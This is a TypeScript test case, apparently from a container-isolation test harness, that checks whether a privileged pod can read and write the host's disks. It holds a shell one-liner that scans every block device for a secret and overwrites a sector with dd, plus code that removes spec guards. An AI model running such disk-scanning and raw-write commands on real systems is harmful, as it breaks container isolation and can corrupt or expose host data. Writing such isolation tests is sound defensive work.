import { readdirSync, statSync } from 'node:fs'
import { contained, escaped, isControl, reachedGuest, type Attack } from '../../attack.ts'
import { LoopDisk } from '../../loop-disk.ts'
import { unguard } from '../../spec-changes.ts'

interface Device { path: string; type: 'b' | 'c'; major: number; minor: number }

/** The devices of the host as CRI and Docker list them for a privileged container. */
function hostDevices(): Device[] {
  return readdirSync('/dev').map((name) => `/dev/${name}`).flatMap((path): Device[] => {
    const status = statSync(path, { throwIfNoEntry: false })
    if (status === undefined || !(status.isBlockDevice() || status.isCharacterDevice())) return []
    return [{ path, type: status.isBlockDevice() ? 'b' : 'c', major: status.rdev >> 8 & 0xfff, minor: status.rdev & 0xff }]
  })
}

export const attack: Attack = {
  id: 'privileged-disks',
  title: 'a privileged pod reads and writes the host\'s disks',
  family: 'author',
  leak: 'every disk of the host',
  bound: 'guest',
  control: { weak: 'runc, which gives them' },
  async run(site) {
    const disk = new LoopDisk(site, 'disk')
    const written = `written-by-${site.secret}`
    const { stdout, stderr, refusal } = await site.attempt({
      // Reads them all; writes only where the case's own secret is.
      args: ['sh', '-c', `for disk in $(find /dev -type b) ; do if grep -q -a ${site.secret} $disk; then echo read $disk; echo ${written} | dd of=$disk bs=512 seek=8 conv=notrunc,fsync; fi; done 2>/dev/null; find /dev -type b | wc -l; ls /sys/block | tr '\\n' ' '`],
      spec: (spec) => {
        unguard(spec)
        // The rest of the machine's disks would take minutes to read and prove no more.
        spec.linux.devices = hostDevices().filter(({ path, type }) => !isControl(site.runtime) || type === 'c' || path === disk.device)
      },
    })
    if (refusal !== undefined) return contained(`refused: ${refusal}`)
    if (stdout.includes('read')) return disk.contains(written) ? escaped('a disk of the host was read and written') : escaped('a disk of the host was read')
    if (disk.contains(written)) return escaped('a disk of the host was written')
    return reachedGuest(`privileged in the guest, whose disks are ${stdout.trim().split('\n').join(' nodes: ')}; the host's disk is as it was ${stderr}`)
  },
}
